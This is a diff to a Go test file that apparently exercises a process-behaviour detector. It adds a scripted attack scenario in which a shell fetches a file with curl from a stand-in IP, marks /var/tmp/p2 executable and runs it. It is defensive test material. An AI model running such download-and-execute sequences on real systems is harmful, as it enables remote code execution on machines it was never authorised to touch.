@@ -58,6 +58,13 @@ func stories() map[string]*detecttest.Story {
 	m["attack-python-into-tmp"] = s
 
 	s, sh = begin()
+	cu := s.Exec(sh, "/usr/bin/curl -s http://203.0.113.7/p")
+	s.Connect(cu, "203.0.113.7:80")
+	s.Exec(sh, "/usr/bin/chmod 755 /var/tmp/p2")
+	s.Exec(sh, "/var/tmp/p2", detecttest.From(bollwerk.OriginCreated))
+	m["attack-redirected-unseen"] = s
+
+	s, sh = begin()
 	f := s.Fork(sh)
 	s.Write(f, "/tmp/run.sh", 503)
 	s.Become(f, "/usr/bin/curl -s http://203.0.113.7/run.sh")
